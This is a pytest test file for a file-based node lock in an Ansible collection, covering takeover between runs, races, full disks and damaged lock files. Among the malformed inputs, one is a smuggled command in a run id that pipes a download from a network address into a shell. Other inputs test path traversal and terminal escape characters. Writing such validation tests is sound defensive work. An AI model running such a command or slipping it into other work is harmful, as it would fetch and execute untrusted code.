# Copyright: Contributors to the dcops.atlassian_sessions project
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The node lock: one run, one start of it, and the older one learns that it is over."""

from __future__ import annotations

import errno
import fcntl
import json
import os
import resource
import stat
import threading
import typing as t
from contextlib import contextmanager
from pathlib import Path

import pytest
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._base.errors import SessionsError
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._record import node_lock
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._record.node_lock import NodeLock, Owner, may_take, owner_of

from tests.unit.nfs_flock import flock_as_on_nfs


def owner(run_id: str = "CHG-1", attempt: int = 1, number: str = "aa", controller: str = "ops1") -> Owner:
    return Owner(run_id=run_id, attempt=attempt, number=number, controller=controller)


def test_the_start_of_a_run_is_its_owner() -> None:
    start = {"attempt": 2, "number": "bb", "controller": "ops2"}
    assert owner_of("CHG-1", start) == owner(attempt=2, number="bb", controller="ops2")
    # a rehearsal owns nothing
    assert owner_of("CHG-1", {}) == owner(attempt=0, number="", controller="")


@pytest.fixture
def lock(tmp_path: Path) -> NodeLock:
    return NodeLock(str(tmp_path))


@pytest.mark.parametrize(
    ("holder", "wanted", "abandon", "may"),
    [
        (None, owner(), "", True),
        (owner(), owner(), "", True),
        (owner(), owner(attempt=2, number="bb"), "", True),
        (owner(attempt=2, number="bb"), owner(), "", False),
        (owner(), owner(number="bb"), "", False),
        (owner("CHG-0"), owner(), "", False),
        (owner("CHG-0"), owner(), "CHG-0", True),
        (owner("CHG-0"), owner(), "CHG-9", False),
    ],
    ids=["free", "mine", "older start", "newer start", "same attempt, another start", "another run", "set aside", "another one set aside"],
)
def test_who_may_take_it(holder: Owner | None, wanted: Owner, abandon: str, may: bool) -> None:
    assert may_take(holder, wanted, abandon) is may


@pytest.mark.parametrize(
    "start", [{}, {"attempt": "1", "number": "8d2c", "controller": "ops1"}, {"attempt": 1, "number": 5, "controller": "ops1"}]
)
def test_a_lock_is_taken_and_given_back_for_a_start_alone(lock: NodeLock, start: dict[str, t.Any]) -> None:
    """Without one two playbooks with the same run id would have it, and one that is none leaves a lock that nobody can read."""
    for act in (lambda me: lock.take(me, ""), lock.release):
        with pytest.raises(SessionsError, match="A lock is taken, and given back, for a start"):
            act(owner_of("CHG-1", start))
    assert not lock.path.exists()


def test_taken_seen_and_given_back(lock: NodeLock) -> None:
    assert lock.take(owner(), "") is True
    assert (lock.holder(), stat.S_IMODE(lock.path.stat().st_mode)) == (owner(), 0o600)
    lock.check_mine(owner())
    assert lock.take(owner(), "") is False
    assert lock.release(owner()) is True
    assert lock.release(owner()) is False
    assert lock.holder() is None


def test_another_runs_lock_is_refused_and_named_with_both_ways_out(lock: NodeLock) -> None:
    lock.take(owner("CHG-0", controller="ops7"), "")
    for act in (lambda: lock.take(owner(), ""), lambda: lock.check_free(owner(), "")):
        with pytest.raises(SessionsError, match=r"locked by run CHG-0 .start 1, controller ops7") as refusal:
            act()
        assert "force_reauth_run_id=CHG-0" in str(refusal.value)
        assert "force_reauth_abandon=CHG-0" in str(refusal.value)
    assert lock.holder() == owner("CHG-0", controller="ops7")


def test_a_resume_takes_it_over_and_the_older_start_learns_it(lock: NodeLock) -> None:
    lock.take(owner(), "")
    later = owner(attempt=2, number="bb", controller="ops2")
    lock.check_free(later, "")
    assert lock.take(later, "") is True
    with pytest.raises(SessionsError, match=r"taken over by run CHG-1 .start 2, controller ops2"):
        lock.check_mine(owner())
    assert lock.release(owner()) is False
    lock.check_mine(later)


def test_a_start_that_goes_by_another_record_of_the_run_is_not_sent_to_resume_it(lock: NodeLock) -> None:
    lock.take(owner(), "")
    with pytest.raises(SessionsError, match=r"locked by run CHG-1 .start 1, controller ops1., another start of this run: ") as refusal:
        lock.take(owner(number="bb"), "")
    assert "force_reauth_abandon=CHG-1" in str(refusal.value)
    assert "resume" not in str(refusal.value)
    assert lock.holder() == owner()


def test_a_run_that_is_set_aside_loses_it(lock: NodeLock) -> None:
    lock.take(owner("CHG-0"), "")
    lock.check_free(owner(), "CHG-0")
    lock.take(owner(), "CHG-0")
    with pytest.raises(SessionsError, match="taken over by run CHG-1"):
        lock.check_mine(owner("CHG-0"))


def test_a_lock_that_is_gone_is_no_lock(lock: NodeLock) -> None:
    with pytest.raises(SessionsError, match="is gone"):
        lock.check_mine(owner())


def lock_text(**changes: object) -> str:
    return json.dumps({**owner(), **changes})


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{}",
        "[]",
        "7",
        '{"run_id": "x"}',
        pytest.param("[" * 1000, id="JSON without a bottom"),
        lock_text(run_id="x; curl http://192.0.2.1 | sh"),
        lock_text(run_id=["CHG-1"]),
        lock_text(run_id="../CHG-1"),
        lock_text(attempt="2"),
        lock_text(attempt=True),
        lock_text(attempt=-1),
        lock_text(number={"a": 1}),
        lock_text(number="a b"),
        lock_text(controller="ops\x1b[2J"),
        lock_text(controller="ops\u202e"),
        lock_text(controller=None),
    ],
)
def test_a_damaged_lock_is_named_and_kept(lock: NodeLock, text: str) -> None:
    lock.path.write_text(text, encoding="utf-8")
    for act in (lambda: lock.take(owner(), ""), lambda: lock.check_free(owner(), ""), lambda: lock.check_mine(owner())):
        with pytest.raises(SessionsError, match="is damaged"):
            act()
    assert lock.path.read_text(encoding="utf-8") == text


@pytest.mark.parametrize(("text", "holder"), [(lock_text(run_id="CHG-0"), owner("CHG-0")), ("{", None), ("", None), (None, None)])
def test_who_has_failed_at_a_lock_is_told_whose_it_is_where_that_is_known(lock: NodeLock, text: str | None, holder: Owner | None) -> None:
    if text is not None:
        lock.path.write_text(text, encoding="utf-8")
    assert lock.known_holder() == holder


def test_a_home_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(
        SessionsError, match=r"no-home/\.force_reauth\.lock cannot be written: No such file or directory\. See to its folder"
    ):
        NodeLock(str(tmp_path / "no-home")).take(owner(), "")


@contextmanager
def full_disk() -> t.Iterator[None]:
    """No file of this process may grow."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


def test_a_lock_for_which_the_disk_has_no_room_is_refused_and_leaves_nothing(lock: NodeLock) -> None:
    with full_disk(), pytest.raises(SessionsError, match=r"\.force_reauth\.lock cannot be written: File too large\."):
        lock.take(owner(), "")
    assert list(lock.path.parent.iterdir()) == []
    assert lock.take(owner(attempt=2, number="bb"), "")


def test_a_lock_for_which_the_disk_has_no_room_is_not_taken_over(lock: NodeLock) -> None:
    lock.take(owner(), "")
    with full_disk(), pytest.raises(SessionsError, match=r"\.force_reauth\.lock cannot be written: File too large\."):
        lock.take(owner(attempt=2, number="bb"), "")
    assert lock.holder() == owner()


def test_a_lock_that_its_file_system_cannot_hold_is_named(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    lock.take(owner(), "")

    def fail(_handle: int, _how: int) -> None:
        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))

    monkeypatch.setattr(fcntl, "flock", fail)
    with pytest.raises(SessionsError, match=f"^The lock {lock.path} cannot be held: No locks available"):
        lock.release(owner())
    assert lock.holder() == owner()


def test_a_start_that_has_the_lock_already_needs_no_room_for_it(lock: NodeLock) -> None:
    lock.take(owner(), "")
    with full_disk():
        assert lock.take(owner(), "") is False


def test_a_lock_is_whole_whenever_its_process_is_killed(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = []
    for name in ("fdopen", "fsync", "link"):

        def look(*values: t.Any, act: t.Callable[..., t.Any] = getattr(os, name), **more: t.Any) -> t.Any:
            seen.append(lock.holder())
            return act(*values, **more)

        monkeypatch.setattr(os, name, look)
    lock.take(owner(), "")
    assert set(map(str, seen)) == {"None", str(owner())}


def test_a_home_without_hard_links_is_named_as_such(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_paths: object) -> None:
        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))

    monkeypatch.setattr(os, "link", refuse)
    with pytest.raises(SessionsError, match=r"\.force_reauth\.lock cannot be written: its file system knows no hard links"):
        lock.take(owner(), "")
    assert list(lock.path.parent.iterdir()) == []


def test_a_lock_that_cannot_be_given_back_is_named_and_stays(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    lock.take(owner(), "")

    def refuse(*_path: object, **_more: object) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(os, "unlink", refuse)
    with pytest.raises(SessionsError, match=r"lock cannot be removed: Read-only file system\. See to its folder, then start the run again"):
        lock.release(owner())
    assert lock.holder() == owner()


def test_a_home_that_the_account_may_not_write_is_refused_at_the_look(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    lock.check_free(owner(), "")
    # root may write everywhere, and tests may run as root
    monkeypatch.setattr(os, "access", lambda path, mode: path != lock.path.parent or not mode & os.W_OK)
    with pytest.raises(SessionsError, match="is not open for writing to this account"):
        lock.check_free(owner(), "")


def test_of_many_runs_at_once_one_gets_it(lock: NodeLock) -> None:
    got: list[str] = []

    def run(name: str) -> None:
        try:
            lock.take(owner(name), "")
        except SessionsError:
            return
        got.append(name)

    threads = [threading.Thread(target=run, args=(f"run{number}",)) for number in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    holder = lock.holder()
    assert holder is not None
    assert got == [holder["run_id"]]


def test_a_lock_that_another_run_makes_at_the_same_moment_is_not_written_over(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    create = os.open

    def lose_the_race(path: str | Path, flags: int, mode: int = 0o777) -> int:
        if flags & os.O_CREAT and not lock.path.exists():
            lock.path.write_text(json.dumps(owner("CHG-0")), encoding="utf-8")
        return create(path, flags, mode)

    monkeypatch.setattr(os, "open", lose_the_race)
    with pytest.raises(SessionsError, match="locked by run CHG-0"):
        lock.take(owner(), "")
    assert lock.holder() == owner("CHG-0")


def test_an_flock_of_a_stranger_on_the_home_folder_keeps_nobody_waiting(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(node_lock, "SECONDS", 0)
    home = os.open(lock.path.parent, os.O_RDONLY)
    fcntl.flock(home, fcntl.LOCK_EX)
    try:
        assert lock.take(owner(), "")
        assert lock.take(owner(attempt=2, number="bb"), "")
        assert lock.release(owner(attempt=2, number="bb"))
    finally:
        os.close(home)


def test_a_lock_that_another_process_holds_is_waited_for_and_then_refused_by_name(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(node_lock, "SECONDS", 0.1)
    lock.take(owner(), "")
    acts: list[t.Callable[[], bool]] = [lambda: lock.take(owner(attempt=2, number="bb"), ""), lambda: lock.release(owner())]
    with lock.path.open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        for act in acts:
            with pytest.raises(SessionsError, match=r"\.force_reauth\.lock was not to be had within 0 s: another process holds it"):
                act()
    assert lock.release(owner())


def test_a_home_on_a_network_file_system_can_be_locked(lock: NodeLock, monkeypatch: pytest.MonkeyPatch) -> None:
    flock_as_on_nfs(monkeypatch)
    assert lock.take(owner(), "")
    assert lock.take(owner(attempt=2, number="bb"), "")
    assert lock.release(owner(attempt=2, number="bb"))


@pytest.mark.parametrize("act", ["take", "release"])
def test_a_lock_that_another_start_holds_for_a_moment_is_waited_for(lock: NodeLock, act: str) -> None:
    lock.take(owner(), "")
    with lock.path.open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        release = threading.Timer(0.1, lambda: fcntl.flock(file, fcntl.LOCK_UN))
        release.start()
        assert lock.take(owner(attempt=2, number="bb"), "") if act == "take" else lock.release(owner())
        release.join()


def test_a_lock_counts_while_it_is_the_one_of_its_name(lock: NodeLock) -> None:
    lock.take(owner(), "")
    with lock.path.open("rb") as file:
        assert lock._is_settled(file.fileno())
        lock.path.rename(lock.path.with_suffix(".old"))
        assert not lock._is_settled(file.fileno())
        lock.take(owner("CHG-2"), "")
        assert not lock._is_settled(file.fileno())


@pytest.mark.parametrize("kind", ["pipe", "device", "link", "folder", "huge"])
def test_what_is_no_lock_hangs_nothing_and_is_named(lock: NodeLock, kind: str, tmp_path: Path) -> None:
    if kind == "pipe":
        os.mkfifo(lock.path)
    elif kind == "folder":
        lock.path.mkdir()
    elif kind == "huge":
        with lock.path.open("wb") as file:
            file.truncate(1 << 40)
    else:
        target = Path("/dev/zero") if kind == "device" else tmp_path / "victim"
        lock.path.symlink_to(target)
    acts = (lambda: lock.take(owner(), ""), lambda: lock.check_free(owner(), ""), lambda: lock.check_mine(owner()), lock.holder)
    for act in (*acts, lambda: lock.release(owner())):
        with pytest.raises(SessionsError, match=r"^The lock .*\.force_reauth\.lock (cannot be read: |is damaged)"):
            act()
    assert not (tmp_path / "victim").exists()
